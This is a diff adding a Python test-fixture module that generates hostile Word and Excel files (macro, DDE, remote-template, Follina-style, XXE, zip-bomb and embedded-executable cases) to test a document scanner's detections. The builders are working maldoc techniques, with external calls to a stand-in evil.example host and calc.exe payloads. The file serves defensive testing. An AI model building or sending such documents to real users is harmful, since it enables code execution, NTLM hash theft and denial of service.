@@ -1,0 +1,641 @@
+"""Hostile OOXML, OLE2 and zip files, built at test time the way attackers build them.
+
+Each builder returns (filename, bytes, expected `found` code). OOXML cases start from an
+honest python-docx report (documents.report_docx) and add what a malicious document
+needs to work in Office: the part, the relationship that points at it, the content type.
+Zip tricks write the archive by hand (raw_zip) where zipfile would refuse to lie.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import struct
+import zipfile
+import zlib
+from functools import cache
+
+from . import cfb
+from .documents import _report_docx, _workbook, with_chart, word_streams
+
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+R_MS = "http://schemas.microsoft.com/office/2006/relationships"
+DOC_RELS = "word/_rels/document.xml.rels"
+MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+
+
+# ---- building blocks ------------------------------------------------------------
+
+
+def repack(base: bytes, parts: dict[str, bytes] | None = None, edit: dict | None = None) -> bytes:
+    """`base` with parts added or replaced, and `edit[name](bytes) -> bytes` applied."""
+    parts, edit = parts or {}, edit or {}
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            if item.filename in parts:
+                continue
+            data = src.read(item.filename)
+            if item.filename in edit:
+                data = edit[item.filename](data)
+            dst.writestr(item.filename, data)
+        for name, data in parts.items():
+            dst.writestr(name, data)
+    return out.getvalue()
+
+
+def add_relationship(rel_type: str, target: str, external: bool = False, rel_id: str = "rIdEvil"):
+    mode = ' TargetMode="External"' if external else ""
+    line = f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>'.encode()
+    return lambda data: data.replace(b"</Relationships>", line + b"</Relationships>")
+
+
+def add_content_type(xml: str):
+    return lambda data: data.replace(b"</Types>", xml.encode() + b"</Types>")
+
+
+def then(*edits):
+    def apply(data: bytes) -> bytes:
+        for one in edits:
+            data = one(data)
+        return data
+
+    return apply
+
+
+def in_body(xml: str):
+    """Insert WordprocessingML into the document body, before the section properties."""
+    return lambda data: re.sub(rb"(<w:sectPr)", xml.encode().replace(b"\\", b"\\\\") + rb"\1", data, count=1)
+
+
+def vba_project(module: str = "ThisDocument") -> bytes:
+    """A Word vbaProject.bin: VBA storage with dir, _VBA_PROJECT and a module whose
+    source (compressed as MS-OVBA writes it: 'Attribut' split by flag bytes) runs on open."""
+    source = (
+        b'\x00Attribut\x00e VB_Nam\x00e = "'
+        + module.encode()
+        + b'"\r\nSub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'
+    )
+    return cfb.write(
+        {
+            "VBA": {"dir": b"\x01" + b"\x00" * 200, "_VBA_PROJECT": b"\xcc\x61" + b"\xff" * 5, module: source},
+            "PROJECT": f'ID="{{00000000-0000-0000-0000-000000000000}}"\r\nDocument={module}/&H00000000\r\n'.encode(),
+            "PROJECTwm": module.encode() + b"\x00" + module.encode("utf-16-le") + b"\x00\x00",
+        },
+        clsid=b"\0" * 16,
+    )
+
+
+def raw_zip(entries: list[dict], directory: list[dict] | None = None) -> bytes:
+    """A zip written field by field. entries: name, data (as stored), method, crc, size;
+    directory: the central records (default: one per entry), each may point anywhere."""
+    body = io.BytesIO()
+    offsets = []
+    for e in entries:
+        offsets.append(body.tell())
+        name = e["name"].encode()
+        body.write(
+            struct.pack(
+                "<4s5H3L2H",
+                b"PK\x03\x04",
+                20,
+                0,
+                e["method"],
+                0,
+                0x21,
+                e["crc"],
+                len(e["data"]),
+                e["size"],
+                len(name),
+                0,
+            )
+        )
+        body.write(name + e["data"])
+    records = directory or [dict(e, offset=o) for e, o in zip(entries, offsets, strict=True)]
+    cd_offset = body.tell()
+    for r in records:
+        name = r["name"].encode()
+        body.write(
+            struct.pack(
+                "<4s6H3L5H2L",
+                b"PK\x01\x02",
+                20,
+                20,
+                0,
+                r["method"],
+                0,
+                0x21,
+                r["crc"],
+                len(r["data"]),
+                r["size"],
+                len(name),
+                0,
+                0,
+                0,
+                0,
+                0,
+                r["offset"],
+            )
+            + name
+        )
+    cd_size = body.tell() - cd_offset
+    body.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(records), len(records), cd_size, cd_offset, 0))
+    return body.getvalue()
+
+
+def docx_entries() -> list[dict]:
+    """The honest report's parts as raw_zip entries (deflated)."""
+    out = []
+    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
+        for item in z.infolist():
+            data = z.read(item.filename)
+            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
+            out.append(
+                dict(
+                    name=item.filename,
+                    data=packer.compress(data) + packer.flush(),
+                    method=8,
+                    crc=zlib.crc32(data),
+                    size=len(data),
+                )
+            )
+    return out
+
+
+@cache
+def zeros_deflated(size: int) -> bytes:
+    """A raw deflate stream of `size` zero bytes (a whole number of MiB), built from one
+    repeated full-flush block: 1 GiB costs ~1 MB and no gigabyte of work here."""
+    mib = b"\0" * (1 << 20)
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
+    return block * (size >> 20) + packer.flush()
+
+
+# ---- OOXML: what makes a document unsafe ------------------------------------------
+
+
+def docx_renamed_vba() -> tuple[str, bytes, str]:
+    """vbaProject.bin renamed word/editdata.bin, found by its relationship and content type."""
+    return (
+        "invoice.docx",
+        repack(
+            _report_docx(),
+            {"word/editdata.bin": vba_project()},
+            {
+                DOC_RELS: add_relationship(f"{R_MS}/vbaProject", "editdata.bin"),
+                "[Content_Types].xml": then(
+                    lambda d: d.replace(b"wordprocessingml.document.main+xml", b"XX").replace(
+                        b"application/vnd.openxmlformats-officedocument.XX", MACRO_MAIN.encode()
+                    ),
+                    add_content_type('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
+                ),
+            },
+        ),
+        "macro",
+    )
+
+
+def docx_vba_relationship_only() -> tuple[str, bytes, str]:
+    """A vbaProject relationship to a part named like a picture, no content type change."""
+    return (
+        "photo-album.docx",
+        repack(
+            _report_docx(),
+            {"word/media/image9.png": vba_project()},
+            {DOC_RELS: add_relationship(f"{R_MS}/vbaProject", "media/image9.png")},
+        ),
+        "macro",
+    )
+
+
+def docx_macro_enabled_type() -> tuple[str, bytes, str]:
+    """A .docm renamed .docx: only the main part's content type says macroEnabled."""
+    edit = {
+        "[Content_Types].xml": lambda d: re.sub(
+            rb'(PartName="/word/document.xml" ContentType=")[^"]+', b"\\1" + MACRO_MAIN.encode(), d
+        )
+    }
+    return "report.docx", repack(_report_docx(), edit=edit), "macro"
+
+
+def docx_remote_template() -> tuple[str, bytes, str]:
+    """Template injection: settings.xml attaches a .dotm fetched when the document opens."""
+    settings_rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{R_OFFICE}/attachedTemplate" '
+        'Target="https://evil.example/templates/normal.dotm" TargetMode="External"/></Relationships>'
+    ).encode()
+    edit = {
+        "word/settings.xml": lambda d: d.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rId1"/></w:settings>')
+    }
+    return (
+        "cv.docx",
+        repack(_report_docx(), {"word/_rels/settings.xml.rels": settings_rels}, edit),
+        "external_relationship",
+    )
+
+
+def docx_follina() -> tuple[str, bytes, str]:
+    """CVE-2022-30190: an external oleObject whose target is an mhtml: URL."""
+    target = "mhtml:https://evil.example/payload.html!x-usc:https://evil.example/payload.html"
+    return (
+        "salary.docx",
+        repack(_report_docx(), edit={DOC_RELS: add_relationship(f"{R_OFFICE}/oleObject", target, external=True)}),
+        ("external_relationship"),
+    )
+
+
+def docx_external_frame() -> tuple[str, bytes, str]:
+    """A frame loaded from a remote host (webSettings frameset)."""
+    rels = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId9" Type="{R_OFFICE}/frame" Target="https://evil.example/frame.html"'
+        ' TargetMode="External"/>'
+        "</Relationships>"
+    ).encode()
+    return "frames.docx", repack(_report_docx(), {"word/_rels/webSettings.xml.rels": rels}), "external_relationship"
+
+
+def docx_unc_hyperlink() -> tuple[str, bytes, str]:
+    """A hyperlink to an SMB share (leaks the reader's NTLM hash when followed)."""
+    return (
+        "links.docx",
+        repack(
+            _report_docx(),
+            edit={DOC_RELS: add_relationship(f"{R_OFFICE}/hyperlink", "file://evil.example/share/x.docx", True)},
+        ),
+        "external_relationship",
+    )
+
+
+def docx_embedded_ole() -> tuple[str, bytes, str]:
+    """word/embeddings/oleObject1.bin behind an internal oleObject relationship."""
+    ole = cfb.write({"\x01Ole10Native": b"\x10\x00\x00\x00payload.exe\x00" + b"MZ" * 100}, clsid=b"\0" * 16)
+    return (
+        "memo.docx",
+        repack(
+            _report_docx(),
+            {"word/embeddings/oleObject1.bin": ole},
+            {DOC_RELS: add_relationship(f"{R_OFFICE}/oleObject", "embeddings/oleObject1.bin")},
+        ),
+        "ole_object",
+    )
+
+
+def docx_hidden_ole() -> tuple[str, bytes, str]:
+    """An OLE2 compound file hidden under a picture's name, with nothing pointing at it."""
+    return "pictures.docx", repack(_report_docx(), {"word/media/image7.png": vba_project()}), "ole_object"
+
+
+def docx_activex() -> tuple[str, bytes, str]:
+    """ActiveX under word/controls/ (not word/activeX/): found by relationship and type."""
+    control = (
+        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"'
+        b' ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>'
+    )
+    return (
+        "form.docx",
+        repack(
+            _report_docx(),
+            {"word/controls/ctl1.xml": control},
+            {
+                DOC_RELS: add_relationship(f"{R_OFFICE}/control", "controls/ctl1.xml"),
+                "[Content_Types].xml": add_content_type(
+                    '<Override PartName="/word/controls/ctl1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
+                ),
+            },
+        ),
+        "activex",
+    )
+
+
+def docx_alt_chunk() -> tuple[str, bytes, str]:
+    """An altChunk importing an HTML page into the document."""
+    return (
+        "newsletter.docx",
+        repack(
+            _report_docx(),
+            {"word/afchunk.htm": b"<html><body><script>alert(1)</script></body></html>"},
+            {
+                DOC_RELS: add_relationship(f"{R_OFFICE}/aFChunk", "afchunk.htm", rel_id="rIdAlt"),
+                "word/document.xml": in_body(f'<w:altChunk xmlns:r="{R_OFFICE}" r:id="rIdAlt"/>'),
+            },
+        ),
+        "alt_chunk",
+    )
+
+
+def docx_ddeauto() -> tuple[str, bytes, str]:
+    """DDEAUTO split across runs, as the 2017 campaigns wrote it."""
+    field = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
+        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
+        "</w:instrText></w:r>"
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return "order.docx", repack(_report_docx(), edit={"word/document.xml": in_body(field)}), "dde"
+
+
+def docx_strict_ddeauto() -> tuple[str, bytes, str]:
+    """The same field in a Strict Open XML document (purl.oclc.org namespace), which Word opens."""
+    strict = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
+    name, data, found = docx_ddeauto()
+    return "strict.docx", repack(data, edit={"word/document.xml": lambda d: d.replace(W.encode(), strict)}), found
+
+
+def docx_dde_simple_field() -> tuple[str, bytes, str]:
+    """DDE in a fldSimple's w:instr attribute, in the footer (a story part too)."""
+    field = (
+        '<w:fldSimple w:instr="DDE &quot;c:\\\\windows\\\\system32\\\\cmd.exe&quot; &quot;/c calc&quot;">'
+        "<w:r><w:t>1</w:t></w:r></w:fldSimple>"
+    )
+
+    def edit(data: bytes) -> bytes:
+        return re.sub(rb"(<w:p\b[^>]*>)", lambda m: m.group(1) + field.encode(), data, count=1)
+
+    return "footer.docx", repack(_report_docx(), edit={"word/footer1.xml": edit}), "dde"
+
+
+def xlsx_dde_formula() -> tuple[str, bytes, str]:
+    """The classic CSV/DDE injection, as a workbook formula: =cmd|' /C calc'!A0."""
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    book.active["A1"] = "Total"
+    book.active["B1"] = "=cmd|' /C calc'!A0"
+    out = io.BytesIO()
+    book.save(out)
+    return "totals.xlsx", out.getvalue(), "dde"
+
+
+def docx_chart_workbook_with_dde() -> tuple[str, bytes, str]:
+    """A chart whose embedded workbook carries a DDE formula: the embedded file is inspected too."""
+    return "chart.docx", with_chart(_report_docx(), _workbook("=cmd|' /C calc'!A0")), "dde"
+
+
+def docx_chart_workbook_with_macros() -> tuple[str, bytes, str]:
+    """A chart's workbook that is really an .xlsm (macroEnabled main content type)."""
+    macro_book = repack(
+        _workbook(),
+        edit={
+            "[Content_Types].xml": lambda d: d.replace(b"spreadsheetml.sheet.main+xml", b"XX").replace(
+                b"application/vnd.openxmlformats-officedocument.XX",
+                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+            )
+        },
+    )
+    return "chart.docx", with_chart(_report_docx(), macro_book), "macro"
+
+
+def docx_package_not_a_document() -> tuple[str, bytes, str]:
+    """A package relationship to an executable named like a workbook."""
+    return "chart.docx", with_chart(_report_docx(), b"MZ\x90\x00" + b"\x00" * 5000), "ole_object"
+
+
+def xlsx_excel4_macro_sheet() -> tuple[str, bytes, str]:
+    """An Excel 4.0 (XLM) macro sheet added to a workbook, with auto_open; no VBA at all."""
+    sheet = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
+        b'<f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
+    )
+    edit = {
+        "xl/_rels/workbook.xml.rels": add_relationship(f"{R_MS}/xlMacrosheet", "macrosheets/sheet1.xml"),
+        "[Content_Types].xml": add_content_type(
+            '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
+        ),
+    }
+    return "report.xlsx", repack(_workbook(), {"xl/macrosheets/sheet1.xml": sheet}, edit), "macro"
+
+
+def docx_xxe() -> tuple[str, bytes, str]:
+    """An external entity in document.xml (XXE): read /etc/passwd into the text."""
+    return (
+        "xxe.docx",
+        repack(
+            _report_docx(),
+            edit={
+                "word/document.xml": lambda d: d.replace(
+                    b"?>", b'?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1
+                )
+            },
+        ),
+        "malformed",
+    )
+
+
+def docx_billion_laughs() -> tuple[str, bytes, str]:
+    laughs = (
+        '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
+        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
+    )
+    return (
+        "laughs.docx",
+        repack(_report_docx(), edit={"[Content_Types].xml": lambda d: d.replace(b"?>", b"?>" + laughs.encode(), 1)}),
+        ("malformed"),
+    )
+
+
+# ---- zip tricks --------------------------------------------------------------------
+
+
+def docx_zeros_bomb() -> tuple[str, bytes, str]:
+    """49 MiB of zeros in a small docx: the ratio limit, on bytes really inflated."""
+    return "bomb.docx", repack(_report_docx(), {"word/media/filler.bin": b"\0" * (49 << 20)}), "zip_bomb"
+
+
+def docx_overlapping_entries() -> tuple[str, bytes, str]:
+    """One deflated blob (2 MiB of zeros) referenced by 400 directory records: 800 MiB
+    if each were inflated, each record's sizes honest and the declared total within limits."""
+    entries = docx_entries()
+    blob = dict(name="word/media/blob.bin", data=zeros_deflated(2 << 20), method=8, crc=0, size=2 << 20)
+    blob["crc"] = _crc_of_zeros(2 << 20)
+    entries.append(blob)
+    records = [dict(e, offset=o) for e, o in zip(entries, _offsets(entries), strict=True)]
+    extra = [dict(blob, name=f"word/media/copy{i}.bin", offset=records[-1]["offset"]) for i in range(399)]
+    return "overlap.docx", raw_zip(entries, records + extra), "zip_bomb"
+
+
+def docx_lying_size() -> tuple[str, bytes, str]:
+    """An entry whose headers say 1,000 bytes over a stream that inflates to 1 GiB."""
+    entries = docx_entries()
+    entries.append(dict(name="word/media/small.bin", data=zeros_deflated(1 << 30), method=8, crc=0, size=1000))
+    return "liar.docx", raw_zip(entries), "zip_bomb"
+
+
+def docx_exe_in_front() -> tuple[str, bytes, str]:
+    """An executable stub in front, offsets adjusted (what `zip -A` does for SFX archives)."""
+    out = io.BytesIO(b"MZ\x90\x00" + b"\x00" * 4000)
+    out.seek(0, io.SEEK_END)
+    with zipfile.ZipFile(io.BytesIO(_report_docx())) as src, zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            dst.writestr(item.filename, src.read(item.filename))
+    return "setup.docx", out.getvalue(), "leading_data"
+
+
+def docx_html_in_front() -> tuple[str, bytes, str]:
+    """An HTML page in front of an unchanged zip (offsets not adjusted)."""
+    return "page.docx", b"<html><script>alert(document.domain)</script></html>" + _report_docx(), "leading_data"
+
+
+def docx_html_after() -> tuple[str, bytes, str]:
+    return "tail.docx", _report_docx() + b"<html><script>alert(1)</script></html>", "trailing_data"
+
+
+def docx_bad_crc() -> tuple[str, bytes, str]:
+    entries = docx_entries()
+    entries[-1]["crc"] ^= 0xFFFF
+    return "crc.docx", raw_zip(entries), "malformed"
+
+
+def docx_many_entries() -> tuple[str, bytes, str]:
+    entries = docx_entries() + [
+        dict(name=f"customXml/i{i}.xml", data=b"", method=0, crc=0, size=0) for i in range(10_001)
+    ]
+    return "many.docx", raw_zip(entries), "zip_limits"
+
+
+def docx_long_name() -> tuple[str, bytes, str]:
+    entries = docx_entries() + [dict(name="word/" + "a" * 2000 + ".xml", data=b"", method=0, crc=0, size=0)]
+    return "long.docx", raw_zip(entries), "zip_limits"
+
+
+def docx_huge_directory() -> tuple[str, bytes, str]:
+    """4,600 entries with 1,000-byte names: a 4.6 MB directory, each name within limits."""
+    entries = docx_entries() + [
+        dict(name=f"customXml/{i:05d}" + "b" * 985 + ".xml", data=b"", method=0, crc=0, size=0) for i in range(4600)
+    ]
+    return "directory.docx", raw_zip(entries), "zip_limits"
+
+
+def _offsets(entries: list[dict]) -> list[int]:
+    at, out = 0, []
+    for e in entries:
+        out.append(at)
+        at += 30 + len(e["name"].encode()) + len(e["data"])
+    return out
+
+
+@cache
+def _crc_of_zeros(size: int) -> int:
+    crc, mib = 0, b"\0" * (1 << 20)
+    for _ in range(size >> 20):
+        crc = zlib.crc32(mib, crc)
+    return crc
+
+
+# ---- OLE2 (.doc) -------------------------------------------------------------------
+
+
+def _letter() -> dict:
+    return word_streams("Please find the invoice attached. Enable content to view it.\r" * 10)
+
+
+def doc_autoopen_macro() -> tuple[str, bytes, str]:
+    """Word 97's layout: Macros/VBA with a module that runs AutoOpen."""
+    streams = {
+        "VBA": {
+            "dir": b"\x01" + b"\x00" * 200,
+            "_VBA_PROJECT": b"\xcc\x61" + b"\xff" * 5,
+            "NewMacros": b'\x00Attribut\x00e VB_Nam\x00e = "NewMacros"\r\nSub AutoOpen()\r\nEnd Sub\r\n',
+        },
+        "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=NewMacros\r\n',
+    }
+    return "invoice.doc", cfb.write({**_letter(), "Macros": streams}), "macro"
+
+
+def doc_vba_in_plain_stream() -> tuple[str, bytes, str]:
+    """Compressed VBA source in a stream under an innocent name (mraptor: any stream)."""
+    source = b'\x00Attribut\x00e VB_Nam\x00e = "Module1"\r\nSub Document_Open()\r\nEnd Sub\r\n'
+    return "notes.doc", cfb.write({**_letter(), "Data": source.ljust(6000, b"\0")}), "macro"
+
+
+def doc_ddeauto() -> tuple[str, bytes, str]:
+    """A DDEAUTO field in the text of a Word 97 document (field begin 0x13 ... end 0x15)."""
+    text = 'Invoice attached.\r\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" \x14x\x15\r'
+    return "dde.doc", cfb.write(word_streams(text * 5)), "dde"
+
+
+def xls_excel_macros() -> tuple[str, bytes, str]:
+    """An Excel 97 workbook with its VBA project under _VBA_PROJECT_CUR."""
+    vba = {"VBA": {"dir": b"\x01" + b"\x00" * 200, "ThisWorkbook": b'\x00Attribut\x00e VB_Nam\x00e = "ThisWorkbook"'}}
+    return "book.xls", cfb.write({"Workbook": b"\x09\x08" + b"\x00" * 5000, "_VBA_PROJECT_CUR": vba}), "macro"
+
+
+def doc_object_pool() -> tuple[str, bytes, str]:
+    """An embedded OLE package (ObjectPool/_1234/\\x01Ole10Native) carrying an .exe."""
+    pool = {
+        "_1612345678": {
+            "\x01Ole10Native": b"\x10\x00\x00\x00invoice.exe\x00" + b"MZ" * 300,
+            "\x01CompObj": b"\x01\x00\xfe\xff" + b"\0" * 60,
+        }
+    }
+    return "package.doc", cfb.write({**_letter(), "ObjectPool": pool}), "ole_object"
+
+
+def doc_html_behind_header() -> tuple[str, bytes, str]:
+    """An OLE2 header in front of an HTML page."""
+    page = b"<html><body><script>document.location='https://evil.example/'</script></body></html>"
+    return "page.doc", cfb.write(_letter())[:512] + page.ljust(1536, b" "), "malformed"
+
+
+def doc_encrypted() -> tuple[str, bytes, str]:
+    """fEncrypted set in the FIB: the content cannot be inspected."""
+    streams = _letter()
+    fib = bytearray(streams["WordDocument"])
+    fib[0x0B] |= 0x01  # flags at 0x0A, fEncrypted is bit 8
+    return "locked.doc", cfb.write({**streams, "WordDocument": bytes(fib)}), "malformed"
+
+
+OOXML_HOSTILE = [
+    docx_renamed_vba,
+    docx_vba_relationship_only,
+    docx_macro_enabled_type,
+    docx_remote_template,
+    docx_follina,
+    docx_external_frame,
+    docx_unc_hyperlink,
+    docx_embedded_ole,
+    docx_hidden_ole,
+    docx_activex,
+    docx_alt_chunk,
+    docx_ddeauto,
+    docx_strict_ddeauto,
+    docx_dde_simple_field,
+    xlsx_dde_formula,
+    xlsx_excel4_macro_sheet,
+    docx_chart_workbook_with_dde,
+    docx_chart_workbook_with_macros,
+    docx_package_not_a_document,
+    docx_xxe,
+    docx_billion_laughs,
+]
+ZIP_HOSTILE = [
+    docx_zeros_bomb,
+    docx_overlapping_entries,
+    docx_lying_size,
+    docx_exe_in_front,
+    docx_html_in_front,
+    docx_html_after,
+    docx_bad_crc,
+    docx_many_entries,
+    docx_long_name,
+    docx_huge_directory,
+]
+OLE_HOSTILE = [
+    doc_ddeauto,
+    xls_excel_macros,
+    doc_autoopen_macro,
+    doc_vba_in_plain_stream,
+    doc_object_pool,
+    doc_html_behind_header,
+    doc_encrypted,
+]
+HOSTILE = OOXML_HOSTILE + ZIP_HOSTILE + OLE_HOSTILE
